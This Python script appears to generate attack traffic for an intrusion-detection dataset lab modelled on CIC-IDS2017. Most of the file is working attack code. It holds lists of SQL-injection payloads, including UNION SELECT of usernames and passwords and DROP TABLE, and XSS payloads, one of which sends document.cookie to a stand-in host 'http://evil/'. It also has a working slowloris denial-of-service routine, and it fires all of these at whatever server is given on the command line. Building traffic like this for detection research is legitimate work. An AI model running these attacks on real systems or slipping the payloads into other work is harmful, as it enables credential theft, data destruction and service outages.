"""Web attacks without a packaged tool, run inside the attacker's namespace:
``python webattack.py KIND SERVER COUNT SEED SECONDS`` (standard library and numpy only).

- ``sqli``: COUNT requests of the product page with classic SQL-injection payloads (tautologies, UNION, comments,
  stacked queries, time-based), as CIC-IDS2017's Selenium-driven injection did against DVWA;
- ``xss``: COUNT searches carrying script payloads;
- ``slowloris``: COUNT sockets that each send a partial request header and then one more header line every few
  seconds, never finishing (the slowloris pattern, RSnake 2009), closed after SECONDS.

Each stops after COUNT requests or SECONDS, whichever is first; every socket has a timeout."""

from __future__ import annotations

import contextlib
import socket
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

import numpy as np

SQLI = ("1' OR '1'='1", "1' OR 1=1 -- ", "' UNION SELECT username, password FROM users -- ", "1; DROP TABLE users",
        "1' AND SLEEP(1) -- ", "' OR ''='", "1' ORDER BY 3 -- ", "admin' -- ", "1 UNION ALL SELECT NULL,NULL,NULL",
        "%' AND 1=0 UNION SELECT table_name FROM information_schema.tables #")
XSS = ("<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert('xss')>",
       "\"><script>document.location='http://evil/'+document.cookie</script>", "<body onload=alert(1)>",
       "<iframe src=javascript:alert(1)>", "'';!--\"<XSS>=&{()}", "<a href=\"javascript:alert(1)\">x</a>")
TIMEOUT = 5.0


def _request(url: str) -> None:
    try:
        with urllib.request.urlopen(url, timeout=TIMEOUT) as r:
            r.read()
    except urllib.error.HTTPError:
        pass


def injections(kind: str, server: str, count: int, rng: np.random.Generator, end: float) -> None:
    payloads, path, key = (SQLI, "/product", "id") if kind == "sqli" else (XSS, "/search", "q")
    for _ in range(count):
        if time.monotonic() >= end:
            return
        suffix = "" if rng.random() < 0.5 else str(int(rng.integers(0, 100)))
        query = urllib.parse.urlencode({key: str(rng.choice(payloads)) + suffix})
        with contextlib.suppress(OSError):
            _request(f"http://{server}{path}?{query}")
        time.sleep(float(rng.exponential(0.2)))


def slowloris(server: str, count: int, rng: np.random.Generator, end: float) -> None:
    socks: list[socket.socket] = []
    try:
        for _ in range(count):
            s = socket.create_connection((server, 80), timeout=TIMEOUT)
            s.sendall(f"GET /?{int(rng.integers(0, 10**6))} HTTP/1.1\r\nHost: {server}\r\n".encode())
            socks.append(s)
        for _ in range(1000):  # keep-alive rounds
            if time.monotonic() >= end:
                return
            for s in socks:
                with contextlib.suppress(OSError):
                    s.sendall(f"X-a: {int(rng.integers(0, 5000))}\r\n".encode())
            time.sleep(min(float(rng.uniform(3.0, 6.0)), max(0.0, end - time.monotonic())))
    finally:
        for s in socks:
            s.close()


def main(kind: str, server: str, count: int, seed: int, seconds: float) -> None:
    rng = np.random.default_rng(seed)
    end = time.monotonic() + seconds
    if kind == "slowloris":
        slowloris(server, count, rng, end)
    else:
        injections(kind, server, count, rng, end)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]))
